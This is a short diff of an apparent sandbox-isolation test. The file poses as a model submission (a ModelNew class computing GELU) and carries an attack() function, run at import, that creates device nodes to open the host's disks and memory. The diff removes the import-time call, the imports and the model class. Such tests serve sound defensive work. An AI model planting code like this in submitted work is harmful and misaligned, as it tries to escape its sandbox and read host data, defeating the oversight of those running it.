@@ -1,15 +1,7 @@
 """Makes device nodes in its directory, and opens the disks and memory of the host.
 
 A node is a file: who may make one with the disk's numbers may read the disk.
-Where it is refused the kernel answers rightly and passes; success would be an import error.
 """
-
-import os
-import stat
-
-import torch
-import torch.nn as nn
-import torch.nn.functional as F
 
 
 def attack():
@@ -26,11 +18,3 @@ def attack():
         except OSError:
             continue
         raise RuntimeError(f"ATTACK SUCCEEDED: opened {path}")
-
-
-attack()
-
-
-class ModelNew(nn.Module):
-    def forward(self, x: torch.Tensor) -> torch.Tensor:
-        return F.gelu(x, approximate="tanh")
